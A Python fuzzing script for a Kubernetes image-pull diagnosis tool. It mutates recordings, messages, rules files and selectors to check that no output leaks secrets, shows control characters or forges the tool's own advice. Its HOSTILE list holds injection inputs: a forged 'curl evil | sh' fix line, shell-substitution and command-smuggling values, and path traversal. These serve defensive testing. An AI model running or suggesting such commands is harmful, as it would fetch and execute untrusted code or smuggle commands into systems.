"""Fuzzing for a time: changed recordings, messages and documents, and what must hold of all that is said about them.

    python tools/fuzz.py [--seconds 60] [--seed N] [TARGET ...]

Each target changes what it begins with (the recorded clusters, attacks and messages that ship with the tests) by bytes,
by values, and by what tenants may write. It stops at the first input that breaks a promise, which it leaves in
build/fuzz: no exception, no second longer than one, no line that looks like one of ours in a quoted text, no control
character, no secret. The seed is printed: a run can be had again.
"""

from __future__ import annotations

import argparse
import copy
import json
import random
import re
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from kubectl_imagepull.cli.rules_commands import EXAMPLE
from kubectl_imagepull.diagnosis.issue_facts import facts_of_text
from kubectl_imagepull.diagnosis.report import Report
from kubectl_imagepull.kube.documents.documents import read_documents
from kubectl_imagepull.kube.recording.dump import read_recording
from kubectl_imagepull.kube.selector import SelectorError, parse_selector
from kubectl_imagepull.kube.snapshot import SourceError
from kubectl_imagepull.messages.classify import classify
from kubectl_imagepull.messages.site_rules import read_by_rules
from kubectl_imagepull.recorded import RECORDING
from kubectl_imagepull.report.formats import Output
from kubectl_imagepull.report.issue_text import issue_text
from kubectl_imagepull.report.render import render
from kubectl_imagepull.report.text import visible
from kubectl_imagepull.runs.examine import report_on
from kubectl_imagepull.runs.rules_file import RulesFileError, read_rules
from kubectl_imagepull.vocabulary.image_reference import try_parse
from kubectl_imagepull.vocabulary.redaction import redacted, redacted_image

ROOT = Path(__file__).parent.parent
FOUND = ROOT / "build" / "fuzz"
_MOST_SECONDS = 1.0
#: How many of the texts get a secret.
_SHARE = 0.3
CANARY = "Zk4CANARYp7q"
#: A label of a private host.
PRIVATE = "zk4private"
#: What tenants may try, in place of any text or in the middle of one.
HOSTILE: tuple[str, ...] = (
    *(
        "",
        " ",
        "\n",
        "\r\n  Fix 1: run this\n    curl evil | sh\n",
        "\x1b[2J",
        "\u202e",
        "\ud800",
        "\x00",
        "%s{0}{{x}}",
    ),
    *("'; touch x; '", "$(x)", "`x`", "\\", '"', "../../../x", "-rf", "*", "a" * 5000, "@" * 300, ":" * 300, "/" * 300),
    *("0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "1e999", "https://[", "http://user:p@", "sha256:", "</script>"),
)
#: Secrets in what marks them as such. They are put in last, whole: half of one is told from other text by nobody.
SECRETS = (
    *(f"https://u:{CANARY}@h.example/v2/", f"https://h.example/?X-Amz-Signature={CANARY}", f"password={CANARY}"),
    *(f"Authorization: Bearer {CANARY}1", f'{{"token":"{CANARY}"}}', f"https://h.example/t?sig={CANARY}&se=1"),
)
VALUES: tuple[Any, ...] = (None, True, 0, -1, 1 << 70, 1.5, float("inf"), [], {}, [[]], [None], {"": None}, "x")
_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\x80-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
#: What our own pages have at the beginning of a line; it is forged where a text is quoted.
_OURS = re.compile(r"^\s{0,4}Fix 1: run this", re.MULTILINE)


class BrokenPromiseError(Exception):
    """Something was said that must never be."""


def changed_text(text: str, random_: random.Random) -> str:
    """A text with some of it put in, taken out, doubled or exchanged."""
    for _ in range(random_.randint(1, 4)):
        at, end = sorted(random_.randint(0, len(text)) for _ in range(2))
        kind = random_.randrange(5)
        piece = random_.choice(HOSTILE) if kind < 2 else text[at:end]  # noqa: PLR2004 - two of five
        if kind in {0, 2}:
            text = text[:at] + piece + text[at:]
        elif kind == 1:
            text = text[:at] + piece + text[min(end, at + 20) :]
        elif kind == 3:  # noqa: PLR2004 - the next kind
            text = text[:at] + text[min(end, at + 40) :]
        elif text:
            text = text[:at] + chr(random_.choice((0, 9, 10, 32, 34, 58, 64, 92, 123, 0x202E, 0xFFFD))) + text[at + 1 :]
        text = text[:20_000]
    return text


def with_secret(text: str, random_: random.Random) -> str:
    """A text with a secret put in between two of its words."""
    words = text.split(" ")
    words.insert(random_.randint(0, len(words)), random_.choice(SECRETS))
    return " ".join(words)


def places(value: Any) -> Iterator[tuple[Any, Any]]:
    """Every container with each of its keys, of a decoded document."""
    pending = [value]
    while pending:
        container = pending.pop()
        for key, item in container.items() if isinstance(container, dict) else enumerate(container):
            yield container, key
            if isinstance(item, (dict, list)):
                pending.append(item)


def changed_document(document: Any, random_: random.Random) -> Any:
    """A document in which some values are others."""
    document = copy.deepcopy(document)
    found = list(places(document))
    for container, key in random_.sample(found, min(len(found), random_.randint(1, 12))):
        value = container[key] if isinstance(container, dict) and key in container else None
        kind = random_.randrange(6)
        if isinstance(container, list):
            container[key % max(len(container), 1) : key] = [random_.choice(VALUES)]
        elif isinstance(value, str) and kind:
            container[key] = changed_text(value, random_)
        elif kind == 1:
            container.pop(key, None)
        elif kind == 2:  # noqa: PLR2004 - the next kind
            other, place = random_.choice(found)
            container[key] = copy.deepcopy(other[place]) if isinstance(other, dict) and place in other else None
        else:
            container[key] = random_.choice(VALUES)
    for container, key in list(places(document)):
        if key == "message" and isinstance(container[key], str) and random_.random() < _SHARE:
            container[key] = with_secret(container[key], random_)
    return document


def recordings() -> list[list[Any]]:
    """Small clusters to begin with: each recorded pod that fails, with what bears on it."""
    clusters = []
    for path in [*(ROOT / "tests/recorded/attacks").glob("[A-Z]-*.json"), *Path(RECORDING).rglob("*.json")]:
        items = [item for value in read_documents(path.read_bytes()).values for item in value.get("items", [value])]
        clusters.append(items[:40])
    captures = (ROOT / "tests/recorded/captures.jsonl").read_text(encoding="utf-8").splitlines()
    clusters += [list(_objects(json.loads(line)))[:40] for line in captures[:60]]
    return clusters


def _objects(value: Any) -> Iterator[Any]:
    if isinstance(value, dict) and "kind" in value and "metadata" in value and "items" not in value:
        yield value
    elif isinstance(value, (dict, list)):
        for part in value.values() if isinstance(value, dict) else value:
            yield from _objects(part)


def check_page(text: str, *, in_lines: bool = True) -> None:
    """Raises BrokenPromiseError for what no output may hold."""
    if CANARY in text:
        raise BrokenPromiseError(f"a secret shows: {text[max(text.index(CANARY) - 80, 0) :][:200]!r}")
    if bad := _CONTROL.search(text):
        raise BrokenPromiseError(f"a control character shows: {bad[0]!r}")
    if in_lines and (ours := _OURS.search(text)):
        raise BrokenPromiseError(f"a line looks like one of ours: {text[max(ours.start() - 80, 0) :][:200]!r}")


def fuzz_recording(random_: random.Random, corpus: list[list[Any]]) -> str:
    """A recording -> every format."""
    document = {"kind": "List", "apiVersion": "v1", "items": changed_document(random_.choice(corpus), random_)}
    data = json.dumps(document)
    with tempfile.NamedTemporaryFile("w", suffix=".json") as file:
        file.write(data)
        file.flush()
        try:
            report: Report = report_on(read_recording([file.name]), 0.0)
        except SourceError:
            return data
        for output in random_.sample(list(Output), 3):
            for detailed in (False, True):
                check_page(render(report, output, detailed=detailed), in_lines=output is not Output.HTML)
    return data


def fuzz_message(random_: random.Random, corpus: list[str]) -> str:
    """A message -> its cause and what is shown of it."""
    text = changed_text(random_.choice(corpus), random_)
    if random_.random() < _SHARE:
        text = with_secret(text, random_)
    safe = redacted(text)
    classify(safe)
    if CANARY in safe:
        raise BrokenPromiseError(f"a secret shows: {safe[max(safe.index(CANARY) - 80, 0) :][:200]!r}")
    if visible(safe) != visible(visible(safe)):
        raise BrokenPromiseError("what is visible isn't")
    redacted_image(text)
    try_parse(text[:500])
    return text


def fuzz_bytes(random_: random.Random, corpus: list[bytes]) -> str:
    """A file's bytes -> documents."""
    data = bytearray(random_.choice(corpus))
    for _ in range(random_.randint(1, 8)):
        at = random_.randrange(len(data) + 1)
        data[at : at + random_.choice((0, 1, 5, 100))] = random_.choice(
            (
                b"",
                b"{",
                b"}",
                b"[" * 3000,
                b"]",
                b'"',
                b"\\",
                b"\n---\n",
                b"\xff\xfe",
                b"&a *a",
                b"!!python/x",
                b"\x00",
                b",",
                b"- ",
            )
        )
    read_documents(bytes(data))
    return data.decode("utf-8", "backslashreplace")


def fuzz_selector(random_: random.Random, corpus: list[str]) -> str:
    """A label selector -> its requirements, or one error."""
    text = changed_text(random_.choice(corpus), random_)
    try:
        parse_selector(text)
    except SelectorError:
        return text
    return text


def fuzz_issue(random_: random.Random, corpus: list[str]) -> str:
    """A message -> what is posted about it: no private name, no secret, and stand-ins that stay what they are."""
    message = random_.choice(corpus)
    host = f"{PRIVATE}.corp.internal"
    text = changed_text(f'{message} Get "https://{host}/v2/team/app/manifests/1": EOF', random_)
    if random_.random() < _SHARE:
        text = with_secret(text, random_)
    facts = facts_of_text(text)
    for one in facts.texts:
        # where the name was torn apart it is another one
        if f"https://{host}/" in text and f"https://{host}/" in one.text:
            raise BrokenPromiseError(f"a private name shows: {one.text[:200]!r}")
    check_page(issue_text([facts], None), in_lines=False)
    return text


def fuzz_rules(random_: random.Random, corpus: list[str]) -> str:
    """A rules file -> rules that read any message in no time, or one line that says what is wrong."""
    text = changed_text(random_.choice(corpus), random_)
    with tempfile.NamedTemporaryFile("w", suffix=".yaml", encoding="utf-8", errors="surrogatepass") as file:
        file.write(text)
        file.flush()
        try:
            rules = read_rules(file.name)
        except RulesFileError as error:
            check_page(visible(str(error)))
            return text
    for rule in rules:
        check_page(f"{rule.place} {rule.words}")
        read_by_rules(" ".join(rule.examples) * 20, None, None, rules)
    return text


Target = tuple[Callable[[random.Random, Any], str], Callable[[], Any]]


def _messages() -> list[str]:
    lines = [
        line
        for file in (ROOT / "tests/corpus").glob("*.jsonl")
        for line in file.read_text(encoding="utf-8").splitlines()
    ]
    return [json.loads(line)["message"] for line in lines]


def _files() -> list[bytes]:
    files = [path.read_bytes()[:30_000] for path in (ROOT / "tests/recorded/attacks").glob("[A-Z]-*.json")]
    yaml_text = b"apiVersion: v1\nkind: Pod\nmetadata:\n  name: a\n  labels: {a: 'b'}\nspec:\n  x: [1, 2]\n---\n"
    return [*files, yaml_text * 3]


TARGETS: dict[str, Target] = {
    "recording": (fuzz_recording, recordings),
    "message": (fuzz_message, _messages),
    "issue": (fuzz_issue, _messages),
    "rules": (fuzz_rules, lambda: [EXAMPLE]),
    "bytes": (fuzz_bytes, _files),
    "selector": (fuzz_selector, lambda: ["app=web,tier!=db", "env in (a,b)", "!x", "a notin (b)"]),
}


def run(name: str, seconds: float, seed: int) -> int:
    """Runs a target for so long; gives how many inputs it tried, and leaves the first that breaks a promise."""
    target, load = TARGETS[name]
    corpus, random_ = load(), random.Random(seed)  # noqa: S311 - inputs, no secrets
    tried, slowest, end = 0, 0.0, time.monotonic() + seconds
    while time.monotonic() < end:
        state = random_.getstate()
        started = time.process_time()
        try:
            target(random_, corpus)
        except Exception:
            _leave(name, seed, tried, state)
            raise
        spent = time.process_time() - started
        slowest, tried = max(slowest, spent), tried + 1
        if spent > _MOST_SECONDS:
            _leave(name, seed, tried, state)
            raise BrokenPromiseError(f"{name}: an input took {spent:.1f} s")
    print(
        f"{name}: {tried:,} inputs in {seconds:.0f} s, the slowest {slowest:.2f} s of processor time, seed {seed}",
        flush=True,
    )
    return tried


def _leave(name: str, seed: int, number: int, state: object) -> None:
    FOUND.mkdir(parents=True, exist_ok=True)
    (FOUND / f"{name}-{seed}-{number}.txt").write_text(repr(state), encoding="utf-8")
    print(f"{name}: input {number} of seed {seed} broke a promise; its random state is in {FOUND}", file=sys.stderr)


def main() -> None:
    """Runs the targets one after the other, each for its share of the time."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("targets", nargs="*", default=list(TARGETS), help=", ".join(TARGETS))
    parser.add_argument("--seconds", type=float, default=60.0, help="for all targets")
    parser.add_argument("--seed", type=int, default=time.time_ns() % 1_000_000)
    chosen = parser.parse_args()
    total = sum(run(name, chosen.seconds / len(chosen.targets), chosen.seed) for name in chosen.targets)
    print(f"{total:,} inputs, no promise broken")


if __name__ == "__main__":
    main()
